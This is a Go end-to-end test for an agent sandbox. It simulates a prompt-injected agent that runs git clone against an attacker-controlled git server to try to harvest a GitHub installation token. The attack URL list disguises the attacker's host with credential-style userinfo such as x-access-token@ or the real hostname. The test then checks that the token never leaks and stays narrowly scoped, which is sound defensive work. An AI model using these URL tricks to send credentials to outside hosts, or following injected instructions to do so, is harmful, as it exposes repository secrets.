//go:build e2e

package e2e

import (
	"context"
	"maps"
	"net/url"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/podbot/podbot/config"
	"github.com/podbot/podbot/github"
)

// passwordRecorder remembers every Basic auth password a git server was
// offered; it accepts none of them.
type passwordRecorder struct {
	mu   sync.Mutex
	seen []string
}

func (r *passwordRecorder) refuse(password string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.seen = append(r.seen, password)
	return false
}

func (r *passwordRecorder) offered() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.seen...)
}

// TestGitHubTokenStaysWithCloneHost plays a prompt-injected agent that
// makes git in the sandbox talk to a second git server (same address,
// another port, so another origin) that demands Basic auth and records the
// password it gets. The installation token must never arrive there, however
// the URL dresses the attacker's host up, while git still clones from the
// configured clone host with the token.
func TestGitHubTokenStaysWithCloneHost(t *testing.T) {
	forEachEngine(t, func(t *testing.T, e engineUnderTest) {
		ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
		defer cancel()
		f := newGHFixture(t, ctx, e, time.Hour, "ghaskpass")
		f.cfg.Workspace.Source = config.SourceGitHubClone
		rec := &passwordRecorder{}
		evil := startGitServer(t, ctx, e, t.TempDir(), rec.refuse)
		good, err := url.Parse(f.gs.BaseURL)
		if err != nil {
			t.Fatal(err)
		}
		bad, err := url.Parse(evil.BaseURL)
		if err != nil {
			t.Fatal(err)
		}
		// The egress policy lets git reach the attacker's server, so what
		// keeps the token from it is the askpass helper, not the proxy.
		f.cfg.Network.Allow = append(f.cfg.Network.Allow, bad.Host)
		sb := launch(t, ctx, f.conn, f.launchOptions())
		token := readToken(t, filepath.Join(f.rt, "podbot", f.name, "ghapp_token"))

		attacks := []string{
			evil.BaseURL + "octo-org/demo.git",
			"http://x-access-token@" + bad.Host + "/octo-org/demo.git",
			"http://" + good.Hostname() + "@" + bad.Host + "/octo-org/demo.git",
			"http://" + strings.ToUpper("x-access-token") + "@" + bad.Host + "/octo-org/demo.git",
		}
		for i, u := range attacks {
			dir := "/tmp/stolen-" + strconv.Itoa(i)
			r := execIn(t, ctx, f.conn, sb, "git", "clone", "--quiet", u, dir)
			if r.code == 0 {
				t.Errorf("git clone %s succeeded; the attacker's server must get no credentials", u)
			}
			t.Logf("git clone %s: exit %d: %s", u, r.code, strings.TrimSpace(r.stderr))
			if strings.Contains(r.stderr, token) {
				t.Errorf("git's stderr for %s shows the token", u)
			}
		}
		for _, p := range rec.offered() {
			if p == token || strings.Contains(p, token) {
				t.Fatalf("the attacker's git server received the installation token")
			}
		}

		// Every token was asked for the one repository and the default
		// permissions, not the installation's full grant.
		reqs := f.gh.TokenRequests()
		if len(reqs) == 0 {
			t.Fatal("the fake GitHub saw no token request")
		}
		for _, r := range reqs {
			if !slices.Equal(r.Repositories, []string{"demo"}) || !maps.Equal(r.Permissions, github.DefaultTokenPermissions()) {
				t.Errorf("token request %+v; want repositories [demo] and %v", r, github.DefaultTokenPermissions())
			}
		}

		// The configured clone host still gets the token.
		before := f.gs.servedWith(token)
		mustExecIn(t, ctx, f.conn, sb, "git", "clone", "--quiet", f.gs.BaseURL+"octo-org/demo.git", "/tmp/again")
		if f.gs.servedWith(token) <= before {
			t.Error("the clone from the configured host was not served with the token")
		}
	})
}
